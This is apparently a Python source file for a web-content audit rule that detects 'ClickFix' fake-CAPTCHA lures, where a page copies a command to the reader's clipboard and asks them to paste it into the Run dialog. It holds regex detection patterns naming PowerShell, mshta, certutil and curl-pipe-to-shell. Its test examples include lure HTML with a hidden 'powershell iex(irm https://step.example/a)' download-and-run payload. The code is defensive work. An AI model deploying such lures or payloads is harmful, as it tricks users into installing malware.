"""INJ003."""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

import re2

from audit.facts import CONTENT
from audit.facts.text import may_hold
from audit.finding import Confidence, Evidence, Finding, Place, Severity
from audit.post import Post
from audit.rule import Bad, Good, PostRule
from audit.rules.injected._code import pieces, shown
from audit.rules.injected._signatures import ADVICE, CHECKS, loose_words, words
from audit.rules.injected._subject import is_about_security

if TYPE_CHECKING:
    from collections.abc import Iterable, Iterator

    from audit.facts import Facts
    from audit.rules.injected._code import Piece

_NEAR = 600
_CLIPBOARD = re.compile(
    r"clipboard\s*\.\s*write(?:Text)?|execCommand\s*\(\s*['\"`](?:copy|cut)|setData\s*\(\s*['\"`]text", re.IGNORECASE
)
_OF_CLIPBOARD = ("clipboard", "execcommand", "setdata")
"""One of these is in all that `_CLIPBOARD` matches."""
_COMMAND = re2.compile(
    r"(?i)\b(?:powershell|pwsh|mshta|cmd(?:\.exe)?\s*/[ck]|msiexec|rundll32|regsvr32|certutil|bitsadmin|wscript|cscript|"
    r"finger\s+\S+@|osascript|bash\s+-c|sh\s+-c|base64\s+(?:-d|--decode)|iex\s*\(|invoke-(?:expression|webrequest|restmethod)|"
    r"irm\s+\S|iwr\s+\S|start-process|forfiles|conhost)\b|\b(?:curl|wget)\s+[^|\n]{3,300}\|\s*(?:ba|z)?sh\b|\bcurl\s+-[a-zA-Z]*\s*\S"
)
_FETCHES = re.compile(
    r"https?://|\biex\b|\birm\b|\biwr\b|-enc|-e[ncodema]{0,12}\s|hidden|\|\s*(?:ba|z)?sh|base64|mshta|\bDownload",
    re.IGNORECASE,
)
_PARTS = ("proves_human", "opens_window", "pastes")
_OVERLAY = re.compile(r"position\s*:\s*fixed|z-index\s*:\s*\d{3,}|inset\s*:\s*0", re.IGNORECASE)
_TEXT = "<p>The boats rose with the tide.</p>"
_TRAP = (
    "<div><p>Verify you are human: press <b>Windows + R</b>, then <b>Ctrl + V</b> and Enter to complete the "
    "CAPTCHA.</p>"
)


class Clickfix(PostRule[Post], code="INJ003", severity=Severity.ERROR, since="0.1.0"):
    """The text asks readers to run a command, in the guise of a check that they are human.

    A script puts the command on their clipboard; they paste it into a window of the system themselves, and so install
    what no browser would let through.
    """

    remedy = ADVICE
    sources = (
        "https://attack.mitre.org/techniques/T1204/004/",
        *CHECKS,
    )
    needs = frozenset({"content"})
    reads_content = True
    text_patterns = (r"(?:ctrl|control|strg|cmd|command|⌘)\s*(?:\+|plus)\s*v", "powershell|terminal|mshta|captcha")
    gated = False
    examples = (
        Bad(
            f"{_TEXT}{_TRAP}<button onclick=\"navigator.clipboard.writeText('powershell -w hidden -c iex(irm "
            "https://step.example/a)')\">I am not a robot</button></div>",
            says="clipboard",
            points_at="onclick",
        ),
        Bad(f"{_TEXT}{_TRAP}</div>", says="asks readers"),
        Bad(
            f"{_TEXT}<h2>Confirm that you are not a robot</h2><ol><li>Press Windows Key + R</li><li>Press CTRL + V</li>"
            "<li>Press Enter</li></ol><button>Continue</button>",
            says="asks readers",
        ),
        Good(
            "<p>Press Win + R. Press Ctrl + V to paste the path, and verify that you see your folder.</p>",
            note="A help desk.",
        ),
        Good(
            "<h2>How fake CAPTCHA attacks work</h2><p>The malware asked victims to press Windows + R and then Ctrl + V "
            "to prove that they are human. Never do that.</p>",
            note="A warning.",
        ),
        Good(
            '<pre><code>curl -fsSL https://tide.example/install.sh | sh</code></pre><button onclick="navigator.'
            "clipboard.writeText('curl -fsSL https://tide.example/install.sh | sh')\">Copy</button>",
            note="The command is there to be read.",
        ),
    )

    def check(self, subject: Post, facts: Facts) -> Iterable[Finding]:
        """First what scripts put on the clipboard, then what the text asks for."""
        told = list(_clipboard(facts)) if pieces(facts) else []
        return _instructions(facts) if not told and self.code in facts.signals else told


def _clipboard(facts: Facts) -> Iterator[Finding]:
    for piece in pieces(facts):
        whole = piece.reading.whole
        if not may_hold(whole, _OF_CLIPBOARD) or not _CLIPBOARD.search(whole):
            continue
        command = _command(piece)
        if command and not _is_shown(command, facts):
            yield Finding(
                f"A script in the {piece.where} puts a command of the system on the reader's clipboard.",
                at=piece.place,
                value=shown(command),
                confidence=Confidence.LIKELY,
                evidence=(Evidence("command", shown(command)), Evidence("code", shown(piece.code))),
            )


def _command(piece: Piece) -> str:
    for text in (piece.reading.joined, *piece.reading.payloads):
        match = _COMMAND.search(text)
        if match is not None:
            start = match.start()
            command = re.split(r"['\"`]\s*[);,]|\n", text[start : start + _NEAR], maxsplit=1)[0]
            if _FETCHES.search(command):
                return command
    return ""


def _is_shown(command: str, facts: Facts) -> bool:
    """The command stands in a code element for all to read: a button that copies it hides nothing."""
    head = " ".join(command.split())[:40]
    blocks = (*facts.elements("pre"), *facts.elements("code"), *facts.elements("textarea"))
    return any(head in " ".join(block.text.split()) for block in blocks)


def _instructions(facts: Facts) -> Iterator[Finding]:
    if not all(loose_words(part).search(facts.text) for part in _PARTS):
        return
    text = "\n".join(block.text for block in facts.blocks)  # in `facts.text` the items of a list may touch each other
    for check in words(_PARTS[0]).finditer(text):
        start, end = max(0, check.start() - _NEAR), check.end() + _NEAR
        around = text[start:end]
        asked = [words(part).search(around) for part in _PARTS[1:]]
        if not all(asked):
            continue
        if is_about_security(facts):
            return
        button = bool(facts.elements("button")) or bool(facts.elements("input")) or _OVERLAY.search(facts.rendered)
        at = facts.content.text.find(check[0]) if facts.content is not None else -1
        yield Finding(
            "The text asks readers to paste something into a window of the system, to prove that they are human.",
            at=Place(CONTENT, start=at, end=at + len(check[0])) if at >= 0 else None,
            value="instructions",
            severity=None if button else Severity.WARNING,
            confidence=Confidence.LIKELY,
            evidence=(Evidence("text", shown(around[min(check.start() - start, *(one.start() for one in asked)) :])),),
        )
        return
